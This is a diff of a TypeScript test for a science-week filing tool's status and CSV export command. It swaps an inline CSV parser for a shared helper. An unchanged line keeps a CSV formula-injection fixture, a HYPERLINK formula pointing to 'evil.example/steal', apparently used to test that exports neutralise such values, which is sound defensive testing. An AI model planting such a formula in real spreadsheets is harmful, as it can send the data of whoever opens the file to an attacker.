@@ -14,45 +14,9 @@ import type { FilingWrite } from '../../src/store/store.js';
 import { makeDataDir, runSciweek } from '../support/console-process.js';
 import { event } from '../support/engine-harness.js';
 import { declaration, exhibitorFiling, keyProjectFiling, summaryReportFiling } from '../unit/export/fixtures.js';
+import { parseCsv } from '../support/csv.js';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/steal?d=1","点击查看")';
-
-
-/** RFC 4180 records of a CSV text (quoted fields may hold commas, quotes and line breaks). */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i += 1) {
-    const ch = text[i];
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') {
-        field += '"';
-        i += 1;
-      } else if (ch === '"') {
-        quoted = false;
-      } else {
-        field += ch;
-      }
-    } else if (ch === '"') {
-      quoted = true;
-    } else if (ch === ',') {
-      row.push(field);
-      field = '';
-    } else if (ch === '\r' && text[i + 1] === '\n') {
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-      i += 1;
-    } else {
-      field += ch;
-    }
-  }
-  if (field !== '' || row.length > 0) rows.push([...row, field]);
-  return rows;
-}
 
 interface StatusRow {
   district: string;
@@ -135,7 +99,7 @@ describe('sciweek status and export', () => {
 
     const bytes = readFileSync(out);
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
-    const rows = parseCsv(bytes.toString('utf8').slice(1));
+    const rows = parseCsv(bytes.toString('utf8').slice(1), { strict: false });
     const [header, ...records] = rows;
     expect(header?.slice(0, 3)).toEqual(['项目名称', '主办单位', '主管部门']);
     expect(header?.slice(-5)).toEqual(['回执号', '区市', '提交人', '提交时间', '状态']);
